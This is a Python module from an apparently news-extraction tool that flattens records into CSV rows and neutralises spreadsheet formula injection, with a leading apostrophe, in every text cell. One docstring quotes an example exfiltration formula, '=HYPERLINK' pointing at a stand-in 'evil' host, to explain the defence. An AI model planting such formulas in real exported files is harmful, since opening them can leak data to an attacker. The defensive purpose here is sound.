"""The one CSV layout of a record, shared by ``twin-extract run --format csv`` and ``export``.

A record becomes one row: ``id``, both parties as ``a_*``/``b_*``, the date, ``status``,
``relation``, ``confidence``, the source as ``source_*`` and the evidence (``COLUMNS``); nested
keys are joined with ``_`` (``date.value`` -> ``date_value``, ``source.published`` ->
``source_published``). Evidence spans are whitespace-collapsed and joined by `` | ``. ``run
--explain`` appends ``rules`` (rule ids, space-separated); ``export`` appends ``review_state``,
``review_reviewer``, ``review_at``, ``review_note``. Missing values are empty cells, and every
text cell passes ``safe_cell``, so news text never becomes a spreadsheet formula.
"""

from __future__ import annotations

import csv
import io
from typing import Any, Iterable, Mapping, Sequence, TypeVar

PARTY_FIELDS = ("text", "name", "type", "country", "country_name", "subdivision", "geonames_id")
COLUMNS: tuple[str, ...] = (
    "id", *(f"{side}_{name}" for side in "ab" for name in PARTY_FIELDS),
    "date_value", "date_precision", "date_text", "status", "relation", "confidence",
    "source_id", "source_path", "source_url", "source_published", "source_title", "evidence",
)
"""Every record's columns, in order."""
RULES_COLUMNS = ("rules",)
REVIEW_COLUMNS = ("review_state", "review_reviewer", "review_at", "review_note")
EVIDENCE_SEPARATOR = " | "
SOURCE_FIELDS = ("id", "path", "url", "published", "title")
DATE_FIELDS = ("value", "precision", "text")

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP "CSV injection")."""

_Cell = TypeVar("_Cell")


def safe_cell(value: _Cell) -> _Cell | str:
    """A CSV cell that a spreadsheet opens as text, never as a formula (CWE-1236).

    Party names, evidence sentences and notes come from news articles, so a cell like
    ``=HYPERLINK("http://evil/?"&A1)`` would run when the CSV is opened in Excel or LibreOffice.
    Text starting with ``= + - @``, tab or carriage return gets a leading ``'`` (the OWASP fix).
    Only strings are touched: ints and floats (confidence, GeoNames ids) are real numbers and are
    returned unchanged, even when negative.
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def columns(explain: bool = False, review: bool = False) -> list[str]:
    """The header: the record's columns, then the optional ``rules`` and ``review_*`` ones."""
    return [*COLUMNS, *(RULES_COLUMNS if explain else ()), *(REVIEW_COLUMNS if review else ())]


def flatten(data: Mapping[str, Any]) -> dict[str, Any]:
    """A record's dict form (``to_dict()``, maybe with ``explain`` or ``review``) as one row."""
    date = data.get("date") or {}
    parties = (list(data["parties"]) + [{}, {}])[:2]
    row: dict[str, Any] = {"id": data["id"], "relation": data["relation"], "status": data["status"],
                           "confidence": data["confidence"]}
    row.update({f"date_{key}": date.get(key) for key in DATE_FIELDS})
    row.update({f"{side}_{key}": party.get(key)
                for side, party in zip("ab", parties) for key in PARTY_FIELDS})
    row.update({f"source_{key}": data["source"].get(key) for key in SOURCE_FIELDS})
    row["evidence"] = EVIDENCE_SEPARATOR.join(" ".join(e["text"].split()) for e in data["evidence"])
    if "explain" in data:
        row["rules"] = " ".join(data["explain"]["rules"])
    row.update({f"review_{key}": value for key, value in (data.get("review") or {}).items()})
    return row


def csv_text(rows: Iterable[Sequence[Any]]) -> str:
    """Rows as CSV (RFC 4180 line ends), each cell guarded by ``safe_cell``, None as empty."""
    buffer = io.StringIO()
    csv.writer(buffer).writerows(
        [safe_cell("" if value is None else value) for value in row] for row in rows)
    return buffer.getvalue()


def record_rows(records: Iterable[Mapping[str, Any]], header: Sequence[str]) -> list[list[Any]]:
    """Each record's cells in ``header`` order."""
    return [[flat.get(column) for column in header] for flat in map(flatten, records)]
